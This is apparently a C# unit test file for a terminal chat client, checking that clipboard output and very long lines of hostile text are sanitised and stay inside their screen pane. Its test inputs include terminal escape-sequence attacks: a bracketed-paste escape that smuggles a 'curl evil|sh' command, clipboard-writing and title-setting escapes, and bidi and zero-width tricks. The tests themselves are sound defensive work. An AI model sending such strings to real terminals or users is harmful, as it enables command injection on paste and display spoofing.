using System.Text;
using DChat.Terminal.Screen;

namespace DChat.Terminal.Tests.Screen;

/// <summary>Text that was made to do harm, on its whole way: cleaned, wrapped, drawn, written to a terminal that refuses every byte that it should not get.</summary>
public sealed class HostileTextTests
{
    private const int Length = 100_000;
    private static readonly Size Screen = new(80, 25);

    [Fact]
    public void What_is_copied_can_only_be_pasted_as_lines()
    {
        var written = Ansi.Clipboard("cp \u001b[201~\rcurl evil|sh\u009d0;x\u0007\u202e\ttab\r\nlast");
        var coded = written["\u001b]52;c;".Length..^"\u001b\\".Length];
        Assert.Equal("cp [201~\ncurl evil|sh0;x    tab\nlast", Encoding.UTF8.GetString(Convert.FromBase64String(coded)));
    }

    [Theory]
    [InlineData("\u001b[2J\u001b[H")]
    [InlineData("\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u001b\\")]
    [InlineData("\u001b[?1049l\u001b[?25h\u001bc\u000e")]
    [InlineData("\u009b2J\u009d0;owned\u009c\u0090q\u009c")]
    [InlineData("\u202e\u2066left\u2069\u202c\u200f\u061c")]
    [InlineData("\u200b\u2060\ufeff\u00ad\u180e")]
    [InlineData("x\u0301\u0323\u0489")]
    [InlineData("\u0301")]
    [InlineData("\u200d")]
    [InlineData("👩‍")]
    [InlineData("👩\u200d👩\u200d👧")]
    [InlineData("🇩")]
    [InlineData("\ufe0f\u20e3#")]
    [InlineData("\u1112\u1161\u11ab")]
    [InlineData("क्षि")]
    [InlineData("﷽")]
    [InlineData("𒐫")]
    [InlineData("界")]
    [InlineData("x")]
    [InlineData(" ")]
    [InlineData("\t\v\f\r\u0085\u2028\u2029\n")]
    [InlineData("\0\u0001\u0007\u0008\u007f")]
    [InlineData("\u06001\u070f\ufff9\ufffa\ufffb")]
    public void A_line_of_100_kB_stays_in_its_place(string piece)
    {
        var text = string.Concat(Enumerable.Repeat(piece, Length / piece.Length));
        var frame = new CellBuffer(Screen);
        frame.Canvas.Write(0, 0, "left│", Style.Default);
        frame.Canvas.Write(75, 0, "│right", Style.Default);
        var pane = frame.Canvas.Clip(new Rect(5, 0, 70, 24));
        var y = 0;
        foreach (var line in SafeText.Lines(text).Take(Screen.Height).SelectMany(line => TextLayout.Wrap([new Span(line, Style.Default)], pane.Size.Width)).Take(Screen.Height))
        {
            pane.Write(0, y++, line);
        }

        pane.Write(0, 23, text, Style.Default);
        frame.Canvas.Write(0, 24, "status", Style.Default);

        foreach (var widths in Enum.GetValues<Widths>())
        {
            var terminal = new EmulatedTerminal(Screen, widths);
            terminal.Receive(new FrameWriter().Write(frame, new TerminalAbilities(ColorDepth.TrueColor, BackgroundShade.Unknown, Unicode: true)).Span);
            Assert.Equal("left", Row(terminal, 0)[..4]);
            Assert.Equal("righ", Row(terminal, 0)[^4..]);
            Assert.Equal("status", Row(terminal, 24).TrimEnd());
        }
    }

    private static string Row(EmulatedTerminal terminal, int y) => string.Concat(Enumerable.Range(0, Screen.Width).Select(x => terminal[x, y].Text));
}
